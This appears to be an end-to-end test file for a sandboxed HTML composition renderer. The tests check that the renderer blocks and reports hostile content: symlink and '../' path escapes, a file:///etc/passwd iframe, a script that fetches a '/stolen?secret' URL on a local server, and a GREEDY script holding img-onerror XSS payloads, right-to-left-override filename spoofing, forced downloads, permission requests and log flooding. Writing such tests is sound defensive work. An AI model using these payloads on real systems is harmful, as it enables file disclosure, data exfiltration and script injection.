import { mkdir, symlink, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { writeComposition } from '../cli/composition.js';
import { expect, test } from './app.js';

test('what leads out of the folder, or lasts for ever, is refused by name before anything of it runs', async ({
  app,
  framelane,
}) => {
  const { page } = app;
  await writeFile(join(framelane.dir, 'secret.png'), 'secret');
  const folder = (name: string) => join(framelane.dir, name);
  await writeComposition(folder('link'), { body: '<img src="picture.png">' });
  await symlink(join(framelane.dir, 'secret.png'), join(folder('link'), 'picture.png'));
  await writeComposition(folder('upward'), { body: '<img src="../secret.png">' });
  await writeComposition(folder('local'), { body: '<iframe src="file:///etc/passwd"></iframe>' });
  await writeComposition(folder('endless'), { durationSec: '1e9' });
  await app.open();
  for (const [name, title, text] of [
    ['link', 'A path leads out of the project', 'picture.png'],
    ['upward', 'A path leads out of the project', 'secret.png'],
    ['local', /A path leads out of the project|A file of the composition is missing/, '/etc/passwd'],
    ['endless', 'Length is missing or too long', '1000000000'],
  ] as const) {
    await app.openFolder(framelane.dir, name);
    const card = page.getByRole('article', { name: title }).first();
    await expect(card, name).toBeVisible();
    await expect(card, name).toContainText(text);
    await expect(page.getByText('Restricted: nothing of this folder runs')).toBeVisible();
  }
  expect(await app.renderProcesses()).toEqual([]);
});

test.describe('a program on this machine', () => {
  let other: Server;
  const reached: string[] = [];

  test.beforeAll(async () => {
    other = createServer((request, response) => {
      reached.push(request.url ?? '');
      response.setHeader('access-control-allow-origin', '*').end();
    });
    await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
  });
  test.afterAll(() => {
    other.closeAllConnections();
    other.close();
  });

  test('is not reached: the address is named, with where it was asked for', async ({ app, framelane }) => {
    const { page } = app;
    const host = `127.0.0.1:${(other.address() as AddressInfo).port}`;
    await writeComposition(join(framelane.dir, 'caller'), {
      body: `<script>fetch('http://${host}/stolen?secret').catch(() => {})</script>`,
    });
    await app.open();
    await app.openFolder(framelane.dir, 'caller');
    await page.getByRole('button', { name: 'Trust folder' }).click();
    await expect(page.getByText(new RegExp(`${host}/stolen.*no network`)).first()).toBeVisible({
      timeout: 90_000,
    });
    expect(reached).toEqual([]);
  });
});

/** Asks for everything that a page of a stranger might want, in every script of the page, at load and at each frame. */
const GREEDY = `<script>
  document.title = '\\u202Egnp.exe <img src=x onerror=alert(1)>';
  window.open('about:blank#popup');
  alert('\\u202Ereversed <b>alert</b>');
  const link = document.createElement('a');
  link.href = URL.createObjectURL(new Blob(['stolen']));
  link.download = 'stolen.txt';
  document.body.append(link);
  link.click();
  navigator.geolocation?.getCurrentPosition(() => console.log('POSITION'), () => console.log('no position'));
  navigator.mediaDevices?.getUserMedia({ video: true }).then(() => console.log('CAMERA'), () => console.log('no camera'));
  Notification.requestPermission?.().then((answer) => console.log('notifications: ' + answer));
  console.log('\\u001b[31mred\\u202E <img src=x onerror=alert(2)>');
  for (let i = 0; i < 1e6; i++) console.log('line ' + i);
</script>`;

test('windows, dialogs, downloads and a million lines are refused, told, and cost nothing else', async ({
  app,
  framelane,
}) => {
  const { page } = app;
  await mkdir(join(framelane.dir, 'greedy'));
  await writeComposition(join(framelane.dir, 'greedy'), { durationSec: '0.5', body: GREEDY });
  await app.open();
  await app.openFolder(framelane.dir, 'greedy');
  await page.getByRole('button', { name: 'Trust folder' }).click();
  await expect(page.getByText(/asked for a window and got none/)).toBeVisible({ timeout: 90_000 });
  await expect(page.getByText(/opened a dialog that nobody sees.*reversed/)).toBeVisible();

  await page.keyboard.press('Control+Enter');
  await expect(app.verdict).toBeVisible({ timeout: 120_000 });
  await page.getByRole('tab', { name: 'Log' }).click();
  const log = page.getByRole('region', { name: 'Log' });
  await page.getByLabel('Search the log').fill('more are not kept');
  await expect(log.getByText('more are not kept').first()).toBeVisible();
  await page.getByLabel('Search the log').fill('alert(2)');
  // Colours are taken out, marks that turn the reading direction are made visible, and markup is text.
  await expect(log).toContainText('console: red\uFFFD <img src=x onerror=alert(2)>');
  await expect(log.locator('img')).toHaveCount(0);
  for (const granted of ['POSITION', 'CAMERA', 'notifications: granted']) {
    await page.getByLabel('Search the log').fill(`console: ${granted}`);
    await expect(page.getByText('No line matches.')).toBeVisible();
  }
  expect(await framelane.files()).toEqual(['greedy', 'home']);
  expect(app.complaints).toEqual([]);
});
